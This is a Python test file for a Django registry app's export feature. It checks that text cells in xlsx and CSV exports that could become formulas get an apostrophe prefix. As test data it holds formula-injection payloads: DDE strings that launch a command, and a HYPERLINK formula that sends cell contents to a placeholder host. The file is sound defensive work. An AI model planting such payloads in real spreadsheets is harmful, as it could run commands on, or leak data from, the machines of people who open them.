"""No exported file runs a formula when opened: a text cell that begins with =, +, -, @, a tab or a
carriage return gets an apostrophe in front, in .xlsx and in CSV; phone numbers stay readable."""

from __future__ import annotations

import pytest
from django.urls import reverse

from pembinaan.lib.exports import DANGEROUS_PREFIXES, safe_cell
from tests.exports.sheets import records_of, rows_of, workbook_of
from tests.factories import BusinessFactory, OwnerFactory

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "equals": '=HYPERLINK("http://contoh.test/?x="&A1,"Klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("value", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_an_xlsx_cell_that_would_be_a_formula_is_written_as_apostrophe_prefixed_text(staff_client, value):
    BusinessFactory(name=value)

    sheet = workbook_of(staff_client.get(reverse("registry:business-export", args=["xlsx"]))).active

    cell = sheet["A2"]
    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    assert cell.value == "'" + value.replace("\r", "\n")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("value", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_a_csv_field_that_would_be_a_formula_is_written_with_an_apostrophe_in_front(staff_client, value):
    BusinessFactory(name=value)

    (record,) = records_of(staff_client.get(reverse("registry:business-export", args=["csv"])))

    assert record["Nama Usaha"] == "'" + value


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_dangerous_text_in_any_column_is_neutralised(staff_client, fmt):
    BusinessFactory(
        name="Warung Aman",
        address="=1+1",
        products="@produk",
        owner=OwnerFactory(name="-Siti", email="+x@contoh.test"),
    )

    (record,) = records_of(staff_client.get(reverse("registry:business-export", args=[fmt])))

    assert record["Alamat Usaha"] == "'=1+1"
    assert record["Produk/Jasa"] == "'@produk"
    assert record["Nama Pemilik"] == "'-Siti"
    assert record["Email"] == "'+x@contoh.test"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_phone_number_is_exported_as_the_screen_shows_it_without_an_apostrophe(staff_client, fmt):
    # Issue 14: no "+" in front any more, so nothing for a spreadsheet to read as a formula.
    BusinessFactory(owner=OwnerFactory(phone="+6281234567890"))

    response = staff_client.get(reverse("registry:business-export", args=[fmt]))
    (record,) = records_of(response)

    assert record["No HP"] == "0812-3456-7890"
    assert record["WhatsApp"] == "6281234567890"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_harmless_text_is_exported_unchanged(staff_client, fmt):
    BusinessFactory(name="Soto = Enak + Murah", address="Jl. A. Yani Km. 5 - Kayu Tangi @ RT 3")

    (record,) = records_of(staff_client.get(reverse("registry:business-export", args=[fmt])))

    assert record["Nama Usaha"] == "Soto = Enak + Murah"
    assert record["Alamat Usaha"] == "Jl. A. Yani Km. 5 - Kayu Tangi @ RT 3"


def test_control_characters_that_xlsx_forbids_are_removed_so_the_export_does_not_fail(staff_client):
    BusinessFactory(name="Usaha\x0bTersembunyi\x01", address="\x01=1+1")

    response = staff_client.get(reverse("registry:business-export", args=["xlsx"]))
    (record,) = records_of(response)

    assert record["Nama Usaha"] == "UsahaTersembunyi"
    # A control character in front cannot hide a formula from the check.
    assert record["Alamat Usaha"] == "'=1+1"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_no_cell_of_the_file_begins_with_a_formula_character(staff_client, fmt):
    for value in DANGEROUS.values():
        BusinessFactory(name=value, address=value, owner=OwnerFactory(name=value))

    rows = rows_of(staff_client.get(reverse("registry:business-export", args=[fmt])))

    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str) and cell]
    assert len(cells) > 3 * len(DANGEROUS)
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_PREFIXES + ("\n",))]


def test_numbers_are_not_neutralised_only_text_is():
    assert safe_cell(-5) == -5
    assert safe_cell("-5") == "'-5"
    assert safe_cell(None) is None


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_one_dangerous_cell_among_many_plain_ones_is_neutralised_and_every_other_cell_reads_as_typed(
    staff_client, fmt
):
    addresses = {n: f"Jl. Pramuka No. {n}" for n in range(40)}
    addresses |= {
        7: "=1+1",
        13: 'Jl. A. Yani km 5, "Ruko Biru"',
        21: "Jl. Sultan Adam\n=2+2, Blok C",  # a formula on a second line is no formula
        33: "Gang\x01 Mawar",  # a control character a spreadsheet cannot hold
    }
    for n, address in addresses.items():
        BusinessFactory(name=f"Usaha {n:02d}", address=address)

    records = records_of(staff_client.get(reverse("registry:business-export", args=[fmt])))

    read = {int(r["Nama Usaha"][-2:]): r["Alamat Usaha"] for r in records}
    assert read == addresses | {7: "'=1+1", 33: "Gang Mawar"}
